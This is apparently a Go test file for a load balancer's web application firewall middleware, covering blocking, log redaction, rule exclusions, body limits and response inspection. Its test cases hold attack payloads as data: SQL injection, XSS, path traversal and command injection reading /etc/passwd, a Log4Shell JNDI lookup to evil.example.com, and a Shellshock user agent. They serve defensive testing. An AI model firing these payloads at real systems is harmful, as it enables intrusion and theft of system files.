package waf

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/usher-lb/usher/internal/config"
	"github.com/usher-lb/usher/internal/middleware/env"
	"github.com/usher-lb/usher/internal/observe"
)

// logBuf collects a JSON log, safe for concurrent use.
type logBuf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *logBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *logBuf) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// lines returns the log's records whose msg starts with prefix.
func (l *logBuf) lines(t *testing.T, prefix string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range strings.Split(strings.TrimSpace(l.String()), "\n") {
		if line == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("log line %q: %v", line, err)
		}
		if msg, _ := m["msg"].(string); strings.HasPrefix(msg, prefix) {
			out = append(out, m)
		}
	}
	return out
}

// ruleIDs returns the ids of the rules of a log record.
func ruleIDs(rec map[string]any) []int {
	var ids []int
	rules, _ := rec["rules"].([]any)
	for _, r := range rules {
		if m, ok := r.(map[string]any); ok {
			if id, ok := m["id"].(float64); ok {
				ids = append(ids, int(id))
			}
		}
	}
	return ids
}

// leak is a page that leaks what the CRS's response rules look for.
const leak = "<html><body>Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in /var/www/html/index.php on line 12<br>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</body></html>"

// app is the server behind the WAF: it echoes the body it got, and answers
// /leak with leak, as text/html.
type app struct {
	mu    sync.Mutex
	hits  int
	bodys []string
}

func (a *app) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, err := io.ReadAll(r.Body)
	if err != nil {
		http.Error(w, "read: "+err.Error(), 500)
		return
	}
	a.mu.Lock()
	a.hits++
	a.bodys = append(a.bodys, string(b))
	a.mu.Unlock()
	if r.URL.Path == "/leak" {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, leak)
		return
	}
	w.Header().Set("Content-Type", "text/plain")
	io.WriteString(w, "ok "+string(b))
}

func (a *app) count() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.hits
}

type fixture struct {
	h    http.Handler
	app  *app
	log  *logBuf
	mets *observe.Metrics
}

func newFixture(t *testing.T, cfg *config.WAF) *fixture {
	t.Helper()
	f := &fixture{app: &app{}, log: &logBuf{}, mets: observe.NewMetrics()}
	e := env.New(env.Config{
		Log:     slog.New(slog.NewJSONHandler(f.log, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Metrics: f.mets,
	}, nil)
	h, err := New(env.With(context.Background(), e), f.app, cfg, "guard")
	if err != nil {
		t.Fatal(err)
	}
	f.h = h
	return f
}

type req struct {
	method, target, ctype, body string
	header                      map[string]string
}

func (f *fixture) do(t *testing.T, q req) *httptest.ResponseRecorder {
	t.Helper()
	method := q.method
	if method == "" {
		method = http.MethodGet
		if q.body != "" {
			method = http.MethodPost
		}
	}
	r := httptest.NewRequest(method, q.target, strings.NewReader(q.body))
	if q.body == "" {
		r.Body = http.NoBody
		r.ContentLength = 0
	}
	r.RemoteAddr = "198.51.100.7:40000"
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")
	r.Header.Set("Accept", "text/html,application/json;q=0.9,*/*;q=0.8")
	r.Header.Set("Accept-Language", "en-GB,en;q=0.9")
	if q.ctype != "" {
		r.Header.Set("Content-Type", q.ctype)
	}
	for k, v := range q.header {
		r.Header.Set(k, v)
	}
	w := httptest.NewRecorder()
	f.h.ServeHTTP(w, r)
	return w
}

func (f *fixture) decisions(result string) float64 {
	return testutil.ToFloat64(f.mets.Decision("waf", "guard", result).Counter())
}

func TestBlocksAttacksAndPassesTraffic(t *testing.T) {
	f := newFixture(t, &config.WAF{})
	for _, c := range []struct {
		name string
		req  req
		want int
	}{
		{"sqli in the query", req{target: "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"}, 403},
		{"xss in the query", req{target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"}, 403},
		{"path traversal", req{target: "/download?file=../../../../etc/passwd"}, 403},
		{"command injection in a form", req{target: "/ping", ctype: "application/x-www-form-urlencoded", body: "host=127.0.0.1%3Bcat%20/etc/passwd"}, 403},
		{"sqli in a JSON body", req{target: "/api/login", ctype: "application/json", body: `{"user":"admin' OR '1'='1' -- ","password":"x"}`}, 403},
		{"log4shell in a header", req{target: "/", header: map[string]string{"X-Api-Version": "${jndi:ldap://evil.example.com/a}"}}, 403},
		{"shellshock in the user agent", req{target: "/", header: map[string]string{"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}}, 403},
		{"a JSON body that is not JSON", req{target: "/api/items", ctype: "application/json", body: `{"name": "lamp",`}, 400},

		{"a page", req{target: "/products/42?ref=home"}, 200},
		{"a search with quotes and brackets", req{target: "/search?q=" + url.QueryEscape(`"red shoes" size <42>`)}, 200},
		{"a JSON API call", req{target: "/api/orders", ctype: "application/json", body: `{"items":[{"sku":"A-100","qty":2}],"note":"Leave it at the door, please"}`}, 200},
		{"a form", req{target: "/contact", ctype: "application/x-www-form-urlencoded", body: "name=Ann+O%27Neil&email=ann%40example.com&message=Hello%21+Is+the+shop+open+on+Sunday%3F"}, 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := f.app.count()
			w := f.do(t, c.req)
			if w.Code != c.want {
				t.Fatalf("status %d, want %d; body %q", w.Code, c.want, w.Body.String())
			}
			reached := f.app.count() > before
			if reached != (c.want == 200) {
				t.Fatalf("reached the server: %v", reached)
			}
			if c.want == 200 && w.Body.String() != "ok "+c.req.body {
				t.Fatalf("the server got %q, want the body as sent", w.Body.String())
			}
			if c.want == 403 && !strings.Contains(w.Body.String(), "refused by the web application firewall") {
				t.Fatalf("403 body %q", w.Body.String())
			}
		})
	}
	if f.decisions("deny") != 8 || f.decisions("allow") != 4 {
		t.Errorf("decisions: deny %v allow %v, want 8 and 4", f.decisions("deny"), f.decisions("allow"))
	}
}

func TestAuditLogNamesRulesNotValues(t *testing.T) {
	f := newFixture(t, &config.WAF{})
	const secretCookie, secretToken = "sessionsecret4242", "Bearer tokensecret4242"
	w := f.do(t, req{
		target: "/api/login?next=%2Fhome", ctype: "application/json",
		body:   `{"user":"admin' OR '1'='1' -- ","password":"bodysecret4242"}`,
		header: map[string]string{"Cookie": "sid=" + secretCookie, "Authorization": secretToken, "X-Request-Id": "rq-1"},
	})
	if w.Code != 403 {
		t.Fatalf("status %d", w.Code)
	}
	logs := f.log.lines(t, "waf: request blocked")
	if len(logs) != 1 {
		t.Fatalf("%d blocked lines in %s", len(logs), f.log)
	}
	rec := logs[0]
	if rec["level"] != "WARN" || rec["middleware"] != "guard" || rec["clientIP"] != "198.51.100.7" || rec["path"] != "/api/login" || rec["action"] != "blocked" {
		t.Errorf("record %v", rec)
	}
	ids := ruleIDs(rec)
	if len(ids) == 0 || !containsInt(ids, 949110) {
		t.Errorf("rule ids %v, want some and 949110 (the anomaly score's)", ids)
	}
	text := f.log.String()
	for _, s := range []string{"bodysecret4242", "sessionsecret4242", "tokensecret4242", "OR '1'='1", "next=", "/home"} {
		if strings.Contains(text, s) {
			t.Errorf("the log holds %q: %s", s, text)
		}
	}
	if !strings.Contains(text, `ARGS_POST:json.user`) && !strings.Contains(text, `ARGS:json.user`) {
		t.Errorf("the log does not name the matched variable: %s", text)
	}
}

func TestDetectModePassesAndLogs(t *testing.T) {
	f := newFixture(t, &config.WAF{Mode: "detect"})
	w := f.do(t, req{target: "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"})
	if w.Code != 200 || f.app.count() != 1 {
		t.Fatalf("status %d, server hits %d; want 200 and 1", w.Code, f.app.count())
	}
	logs := f.log.lines(t, "waf: request detected")
	if len(logs) != 1 || logs[0]["action"] != "detected" {
		t.Fatalf("detected lines %v in %s", logs, f.log)
	}
	if f.decisions("detect") != 1 || f.decisions("deny") != 0 {
		t.Errorf("decisions: detect %v deny %v", f.decisions("detect"), f.decisions("deny"))
	}
	// A body over the limit passes too, whole.
	big := strings.Repeat("a", 2<<20)
	if w := f.do(t, req{target: "/upload", ctype: "text/plain", body: big}); w.Code != 200 || w.Body.Len() != len(big)+3 {
		t.Fatalf("a long body in detect mode: status %d, %d bytes back", w.Code, w.Body.Len())
	}
}

func TestExclusions(t *testing.T) {
	attack := req{target: "/search?q=" + url.QueryEscape("1' UNION SELECT password FROM users--")}
	f := newFixture(t, &config.WAF{})
	if w := f.do(t, attack); w.Code != 403 {
		t.Fatalf("status %d without exclusions", w.Code)
	}
	var ids []int
	for _, id := range ruleIDs(f.log.lines(t, "waf: request blocked")[0]) {
		if id < 949000 { // the rules that scored, not the evaluation
			ids = append(ids, id)
		}
	}
	if len(ids) == 0 {
		t.Fatal("no rule scored")
	}
	for _, c := range []struct {
		name string
		cfg  *config.WAF
		want int
	}{
		{"the rules that matched, by id", &config.WAF{ExcludeRules: ids}, 200},
		{"other rules", &config.WAF{ExcludeRules: []int{941100, 930120}}, 403},
		{"by tag", &config.WAF{ExcludeTags: []string{"attack-sqli"}}, 200},
		{"another tag", &config.WAF{ExcludeTags: []string{"attack-xss"}}, 403},
	} {
		t.Run(c.name, func(t *testing.T) {
			g := newFixture(t, c.cfg)
			if w := g.do(t, attack); w.Code != c.want {
				t.Fatalf("status %d, want %d (excluded %v)", w.Code, c.want, c.cfg.ExcludeRules)
			}
			// Exclusions are per middleware: the first still blocks.
			if w := f.do(t, attack); w.Code != 403 {
				t.Fatalf("the middleware without exclusions now answers %d", w.Code)
			}
		})
	}
}

func TestOwnRules(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "own.conf")
	os.WriteFile(file, []byte("# own rules\nSecRule REQUEST_HEADERS:X-Debug \"@streq on\" \\\n    \"id:10002,phase:1,deny,status:403,msg:'debug header'\"\n"), 0o644)
	f := newFixture(t, &config.WAF{
		Rules: []string{
			`SecRule ARGS:debug "@streq 1" "id:10001,phase:1,deny,status:403,msg:'no debugging'"`,
			// Changes a CRS rule: applied after the CRS is loaded.
			`SecRuleUpdateTargetById 942100 "!ARGS:sql"`,
		},
		RulesFiles: []string{file},
		// 942100 is libinjection's: with ARGS:sql taken out of it, a query
		// in that one argument must not trip the others either.
		ExcludeTags: []string{"attack-sqli-other"},
	})
	for _, c := range []struct {
		req  req
		want int
	}{
		{req{target: "/?debug=1"}, 403},
		{req{target: "/?debug=0"}, 200},
		{req{target: "/", header: map[string]string{"X-Debug": "on"}}, 403},
		{req{target: "/"}, 200},
	} {
		if w := f.do(t, c.req); w.Code != c.want {
			t.Errorf("%s %v: status %d, want %d", c.req.target, c.req.header, w.Code, c.want)
		}
	}
	if ids := ruleIDs(f.log.lines(t, "waf: request blocked")[0]); !containsInt(ids, 10001) {
		t.Errorf("own rule not in the log: %v", ids)
	}
}

func TestRuleErrorsNameTheEntry(t *testing.T) {
	dir := t.TempDir()
	file := filepath.Join(dir, "bad.conf")
	os.WriteFile(file, []byte("# fine\nSecRule ARGS:a \"@streq x\" \"id:10010,phase:1,pass,nolog\"\n\nSecRule ARGS:b \"@rx (\" \\\n  \"id:10011,phase:1,deny\"\n"), 0o644)
	for _, c := range []struct {
		name string
		cfg  *config.WAF
		want []string
	}{
		{"a bad regexp", &config.WAF{Rules: []string{`SecRule ARGS "@streq a" "id:10020,phase:1,pass,nolog"`, `SecRule ARGS "@rx (" "id:10021,phase:1,deny"`}},
			[]string{"waf: rules[1]: ", "error parsing regexp"}},
		{"an id the CRS has", &config.WAF{Rules: []string{`SecRule ARGS "@streq a" "id:942100,phase:1,deny"`}},
			[]string{"waf: rules[0]: ", "duplicated rule id 942100"}},
		{"an unknown directive", &config.WAF{Rules: []string{`SecRule ARGS "@streq a" "id:10030,phase:1,pass,nolog"`, `SecFrobnicate on`}},
			[]string{"waf: rules[1]: ", "unknown directive"}},
		{"an update of no rule", &config.WAF{Rules: []string{`SecRuleUpdateTargetById 1 "!ARGS:x"`}},
			[]string{"waf: rules[0]: ", `rule "1" not found`}},
		{"a bad line of a file", &config.WAF{RulesFiles: []string{file}},
			[]string{"waf: rulesFiles[0] (" + file + ":4): ", "error parsing regexp"}},
		{"a file that is not there", &config.WAF{RulesFiles: []string{filepath.Join(dir, "none.conf")}},
			[]string{"waf: rulesFiles[0]: ", "no such file"}},
		{"the engine", &config.WAF{Rules: []string{"SecRuleEngine Off"}},
			[]string{"waf: rules[0]: SecRuleEngine is usher's to set"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := New(context.Background(), &app{}, c.cfg, "guard")
			if err == nil {
				t.Fatal("no error")
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
		})
	}
	if n := cachedSets(); n > 8 {
		t.Errorf("%d rule sets cached: failed compiles must not be kept", n)
	}
}

func TestRequestBodyLimit(t *testing.T) {
	limit := config.ByteSize(1024)
	pad := strings.Repeat("x", 2000)
	attack := "q=" + url.QueryEscape("<script>alert(1)</script>")
	for _, c := range []struct {
		name, body string
		cfg        *config.WAF
		want       int
	}{
		{"reject: over the limit", "a=" + pad, &config.WAF{RequestBodyLimit: &limit}, 413},
		{"reject: under it", "a=b", &config.WAF{RequestBodyLimit: &limit}, 200},
		{"inspectPart: an attack in the part inspected", attack + "&a=" + pad, &config.WAF{RequestBodyLimit: &limit, OnRequestBodyLimit: "inspectPart"}, 403},
		{"inspectPart: an attack past it passes", "a=" + pad + "&" + attack, &config.WAF{RequestBodyLimit: &limit, OnRequestBodyLimit: "inspectPart"}, 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := newFixture(t, c.cfg)
			w := f.do(t, req{target: "/form", ctype: "application/x-www-form-urlencoded", body: c.body})
			if w.Code != c.want {
				t.Fatalf("status %d, want %d: %s", w.Code, c.want, w.Body)
			}
			if c.want == 200 && w.Body.String() != "ok "+c.body {
				t.Fatalf("the server did not get the whole body: %d bytes back", w.Body.Len())
			}
		})
	}
}

func TestResponseInspection(t *testing.T) {
	off := newFixture(t, &config.WAF{})
	if w := off.do(t, req{target: "/leak"}); w.Code != 200 {
		t.Fatalf("off by default: status %d", w.Code)
	}
	on := newFixture(t, &config.WAF{ResponseInspection: true})
	w := on.do(t, req{target: "/leak"})
	if w.Code != 403 || strings.Contains(w.Body.String(), "mysql") || w.Header().Get("Content-Type") != "text/plain; charset=utf-8" {
		t.Fatalf("a leak: status %d, %q, %q", w.Code, w.Header(), w.Body)
	}
	if w := on.do(t, req{target: "/page"}); w.Code != 200 || w.Body.String() != "ok " {
		t.Fatalf("a page: status %d, %q", w.Code, w.Body)
	}
	det := newFixture(t, &config.WAF{ResponseInspection: true, Mode: "detect"})
	if w := det.do(t, req{target: "/leak"}); w.Code != 200 || !strings.Contains(w.Body.String(), "mysql") {
		t.Fatalf("detect: status %d", w.Code)
	}
	if det.decisions("detect") != 1 {
		t.Errorf("detect decisions %v", det.decisions("detect"))
	}
}

func TestStreamsFlushThrough(t *testing.T) {
	e := env.New(env.Config{}, nil)
	sent := make(chan struct{})
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, "first\n")
		w.(http.Flusher).Flush()
		<-sent
		io.WriteString(w, "second\n")
	})
	h, err := New(env.With(context.Background(), e), next, &config.WAF{ResponseInspection: true}, "guard")
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/stream")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	buf := make([]byte, 6)
	if _, err := io.ReadFull(resp.Body, buf); err != nil || string(buf) != "first\n" {
		t.Fatalf("first part: %q %v", buf, err)
	}
	close(sent)
	rest, _ := io.ReadAll(resp.Body)
	if string(rest) != "second\n" {
		t.Fatalf("rest %q", rest)
	}
}

func TestRuleSetIsShared(t *testing.T) {
	store := env.NewStore()
	build := func(cfgs map[string]*config.WAF) *env.Build {
		b := store.Begin()
		e := env.New(env.Config{}, b)
		for name, cfg := range cfgs {
			if _, err := New(env.With(context.Background(), e), &app{}, cfg, name); err != nil {
				t.Fatal(err)
			}
		}
		return b
	}
	// A setting no other test uses, so that the count is this test's.
	pl := func(n int) *config.WAF {
		return &config.WAF{ParanoiaLevel: 3, InboundAnomalyThreshold: 1000 + n}
	}
	base := cachedSets()
	b := build(map[string]*config.WAF{"a": pl(1), "b": pl(1), "c": {ParanoiaLevel: 3, InboundAnomalyThreshold: 1001, Mode: "detect", ExcludeRules: []int{942100}}})
	b.Commit()
	if got := cachedSets() - base; got != 1 {
		t.Fatalf("three middlewares with one setting hold %d rule sets", got)
	}
	// A reload that renames one and changes another's setting.
	b = build(map[string]*config.WAF{"a": pl(1), "renamed": pl(1), "c": pl(2)})
	b.Commit()
	if got := cachedSets() - base; got != 2 {
		t.Fatalf("after the reload: %d rule sets, want 2", got)
	}
	b = build(map[string]*config.WAF{"a": pl(2)})
	b.Commit()
	if got := cachedSets() - base; got != 1 {
		t.Fatalf("after the second reload: %d rule sets, want 1", got)
	}
	store.Close()
	if got := cachedSets() - base; got != 0 {
		t.Fatalf("after shutdown: %d rule sets still held", got)
	}
}

func TestSplitDirectives(t *testing.T) {
	text := "# comment\n\nSecRule ARGS \"@rx a\" \\\n   \"id:1,phase:1,pass\"\r\n  SecRuleRemoveById 942100\nSecAction \"id:2,pass\""
	got := splitDirectives(text, "rulesFiles[0]", "f.conf")
	want := []directive{
		{`SecRule ARGS "@rx a"  "id:1,phase:1,pass"`, "rulesFiles[0] (f.conf:3)", false},
		{"SecRuleRemoveById 942100", "rulesFiles[0] (f.conf:5)", true},
		{`SecAction "id:2,pass"`, "rulesFiles[0] (f.conf:6)", false},
	}
	if len(got) != len(want) {
		t.Fatalf("got %+v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("[%d] = %+v, want %+v", i, got[i], want[i])
		}
	}
}

func containsInt(list []int, n int) bool {
	for _, x := range list {
		if x == n {
			return true
		}
	}
	return false
}

// TestConfigDocExample: the api-waf of docs/CONFIG.md compiles, and its
// runtime exclusion takes ?q= of /api/search out of libinjection's rule
// (942100) only.
func TestConfigDocExample(t *testing.T) {
	limit := config.ByteSize(256 << 10)
	f := newFixture(t, &config.WAF{
		ParanoiaLevel: 2, InboundAnomalyThreshold: 10, RequestBodyLimit: &limit,
		ExcludeRules: []int{920420}, ExcludeTags: []string{"attack-php"},
		Rules: []string{`SecRule REQUEST_URI "@beginsWith /api/search" "id:1001,phase:1,pass,nolog,ctl:ruleRemoveTargetById=942100;ARGS:q"`},
	})
	q := "?q=" + url.QueryEscape("1 or 1=1")
	for _, c := range []struct {
		path   string
		has100 bool
	}{{"/api/items", true}, {"/api/search", false}} {
		f.log.mu.Lock()
		f.log.b.Reset()
		f.log.mu.Unlock()
		if w := f.do(t, req{target: c.path + q}); w.Code != 403 {
			t.Errorf("%s: %d", c.path, w.Code)
		}
		if ids := ruleIDs(f.log.lines(t, "waf: request blocked")[0]); containsInt(ids, 942100) != c.has100 {
			t.Errorf("%s: rules %v, 942100 among them: want %v", c.path, ids, c.has100)
		}
	}
}

func TestBodyReader(t *testing.T) {
	b := &bodyReader{buf: strings.NewReader("inspected|"), orig: io.NopCloser(strings.NewReader("rest"))}
	got, err := io.ReadAll(b)
	if err != nil || string(got) != "inspected|rest" {
		t.Fatalf("read %q, %v", got, err)
	}
	b = &bodyReader{buf: strings.NewReader("inspected"), orig: io.NopCloser(strings.NewReader("rest"))}
	b.detach()
	if _, err := b.Read(make([]byte, 4)); err != errBodyGone {
		t.Fatalf("a read of the buffer after detach: %v", err)
	}
}

// TestUpgradePassesInspection: with responseInspection, a handler that
// answers 101 and hijacks the connection (a WebSocket) gets it.
func TestUpgradePassesInspection(t *testing.T) {
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "Upgrade")
		w.Header().Set("Upgrade", "echo")
		w.WriteHeader(http.StatusSwitchingProtocols)
		c, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			t.Errorf("hijack: %v", err)
			return
		}
		defer c.Close()
		rw.Flush()
		line, _ := rw.ReadString('\n')
		rw.WriteString("echo " + line)
		rw.Flush()
	})
	h, err := New(context.Background(), next, &config.WAF{ResponseInspection: true}, "guard")
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	c, err := net.Dial("tcp", srv.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "GET /ws HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: test/1.0\r\nAccept: */*\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 101 {
		t.Fatalf("response %v, %v", resp, err)
	}
	io.WriteString(c, "hello\n")
	if line, _ := br.ReadString('\n'); line != "echo hello\n" {
		t.Fatalf("got %q over the upgraded connection", line)
	}
}
